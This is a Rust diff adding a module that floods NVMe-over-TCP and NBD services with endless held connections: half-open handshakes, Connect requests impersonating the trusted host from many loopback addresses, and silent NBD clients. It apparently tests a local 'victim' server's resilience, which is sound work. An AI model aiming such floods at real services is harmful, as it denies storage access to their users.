@@ -1,0 +1,74 @@
+//! Handshakes that are begun as fast as they can be, and never end.
+
+use std::collections::VecDeque;
+use std::io::{self, Write};
+use std::net::{Ipv4Addr, TcpStream};
+use std::thread;
+use std::time::Duration;
+
+use zonda_nvme::tcp::{Digests, InitializeRequest};
+
+use super::Victim;
+use crate::nvme::{Queue, dial};
+use crate::{GUARDED, HOST};
+
+/// Threads that open connections.
+const KNOCKERS: usize = 3;
+/// Connections that each thread holds.
+const HELD: usize = 100;
+/// Addresses of those that come from many.
+const ADDRESSES: u32 = 500;
+/// After an attempt that failed.
+const PAUSE: Duration = Duration::from_millis(1);
+
+/// From the address of the honest host: nothing, or ICReq and nothing more.
+pub(super) fn same_address(victim: Victim) -> ! {
+    flood(move |number| {
+        let mut stream = dial(Ipv4Addr::LOCALHOST, victim.nvme)?;
+        if number % 2 == 0 {
+            stream.write_all(InitializeRequest::new(0, Digests::NONE, 1).bytes())?;
+        }
+        Ok(stream)
+    })
+}
+
+/// From many addresses: a Connect in the name of the honest host, and nothing more.
+pub(super) fn many_addresses(victim: Victim) -> ! {
+    flood(move |number| {
+        let mut queue = Queue::begin(stranger(number), victim.nvme)?;
+        queue.start_connect(HOST, GUARDED, 0, None, 0)?;
+        Ok(queue.stream)
+    })
+}
+
+/// From many addresses: NBD clients that say nothing.
+pub(super) fn silent_nbd(victim: Victim) -> ! {
+    flood(move |number| dial(stranger(number), victim.nbd))
+}
+
+fn stranger(number: u32) -> Ipv4Addr {
+    let number = number % ADDRESSES;
+    Ipv4Addr::new(127, 0, 1 + (number / 250) as u8, 1 + (number % 250) as u8)
+}
+
+/// Makes connections without an end, and keeps the last ones.
+fn flood(make: impl Fn(u32) -> io::Result<TcpStream> + Clone + Send + 'static) -> ! {
+    let knock = |first: usize| {
+        let make = make.clone();
+        thread::spawn(move || {
+            let mut held = VecDeque::new();
+            for number in (0..).map(|round: u32| round.wrapping_mul(KNOCKERS as u32).wrapping_add(first as u32)) {
+                match make(number) {
+                    Ok(stream) => held.push_back(stream),
+                    Err(_) => thread::sleep(PAUSE),
+                }
+                if held.len() > HELD {
+                    held.pop_front();
+                }
+            }
+        })
+    };
+    let threads: Vec<thread::JoinHandle<()>> = (0..KNOCKERS).map(knock).collect();
+    threads.into_iter().for_each(|thread| drop(thread.join()));
+    unreachable!("the threads have no end")
+}
